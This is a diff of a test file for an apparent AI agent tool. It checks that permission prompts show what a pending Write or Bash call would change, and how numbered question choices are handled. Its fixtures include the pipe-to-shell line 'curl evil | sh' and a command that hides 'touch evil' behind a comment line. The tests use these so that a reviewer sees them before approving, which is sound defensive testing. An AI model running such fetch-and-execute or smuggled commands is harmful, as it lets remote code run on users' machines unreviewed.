@@ -1,7 +1,7 @@
 import { existsSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
-import { answerApproval, listApprovals } from "../../../src/lead/approvals.ts";
+import { answerApproval, listApprovals, wholeApproval } from "../../../src/lead/approvals.ts";
 import { interruptAgent } from "../../../src/lead/interrupt.ts";
 import { runFacts } from "../../../src/lead/run-end.ts";
 import { LEAD_NAME } from "../../../src/schema/names.ts";
@@ -104,9 +104,56 @@ describe("calls that wait for a permission (S61)", () => {
     expect([made("made"), status()?.activity]).toEqual([true, ""]);
   });
 
-  it("show what an edit would change", async () => {
+  it("show what they would change, in the pane and among what waits", async () => {
     const input = { file_path: "a.js", content: "one\ncurl evil | sh\n" };
-    const { dev } = await asking({ turns: [{ tools: [{ name: "Write", input }] }, { say: "done" }] });
+    const { ref, dev } = await asking({ turns: [{ tools: [{ name: "Write", input }] }, { say: "done" }] });
     expect(dev.shown).toEqual(expect.arrayContaining(["change: + one", "change: + curl evil | sh"]));
+    const [approval] = listApprovals(ref);
+    expect(approval).toMatchObject({ change: ["+ one", "+ curl evil | sh"], reason: expect.any(String) });
+    expect(wholeApproval(ref, approval?.id ?? "")).toMatchObject({ ...approval, input });
+  });
+
+  it("list the first lines of a long change, and whole where one is looked at", async () => {
+    const content = Array.from({ length: 30 }, (_, at) => `line ${at}`).join("\n");
+    const turns = [{ tools: [{ name: "Write", input: { file_path: "a", content } }] }, { say: "done" }];
+    const { ref } = await asking({ turns });
+    const [approval] = listApprovals(ref);
+    expect(approval?.change).toHaveLength(9);
+    expect(approval?.change?.at(-1)).toBe("… 22 more lines");
+    expect(wholeApproval(ref, approval?.id ?? "").change).toHaveLength(30);
+  });
+
+  it("tell the lines of a command apart, of which one may be a comment", async () => {
+    const command = "git status # then:\ntouch evil";
+    const turns = [{ tools: [{ name: "Bash", input: { command } }] }, { say: "done" }];
+    const { ref, dev } = await asking({ turns });
+    expect(listApprovals(ref)[0]?.summary).toBe("Bash(git status # then: ⏎ touch evil)");
+    expect(dev.shown).toContain("change: $ touch evil");
+  });
+});
+
+describe("a question with choices (S63)", () => {
+  const input = { question: "Which port?", choices: ["80", "8080"] };
+  const turns = [{ tools: [{ name: "AskUserQuestion", input }] }, { say: "I wait" }, { say: "thanks" }];
+
+  it("shows them numbered, and takes a number for one of them in the pane", async () => {
+    const { ref, dev } = await asking({ turns, alone: false });
+    const put = await eventually("the pane", () =>
+      dev.shown.find((line) => line.startsWith("waiting: asks:")),
+    );
+    expect(put).toMatch(/^waiting: asks: Which port\? \(type .*\)\n1 {2}80\n2 {2}8080$/);
+    await eventually("the turn's end", () => dev.shown.includes("turn_ended"));
+    await dev.worker.typed("2");
+    await eventually("the answer's turn", () => dev.inputs.length === 2);
+    expect(dev.inputs[1]).toMatch(/\n8080$/);
+    expect(listApprovals(ref)).toEqual([]);
+  });
+
+  it("takes a number for one of them from approve too", async () => {
+    const { ref, dev } = await asking({ turns, alone: false });
+    await answerApproval(contextOf(ref), listApprovals(ref)[0]?.id ?? "", { approve: true, note: "1" });
+    await eventually("the answer's turn", () => dev.inputs.length === 2);
+    expect(dev.inputs[1]).toContain("80");
+    expect(dev.inputs[1]).not.toContain(": 1");
   });
 });
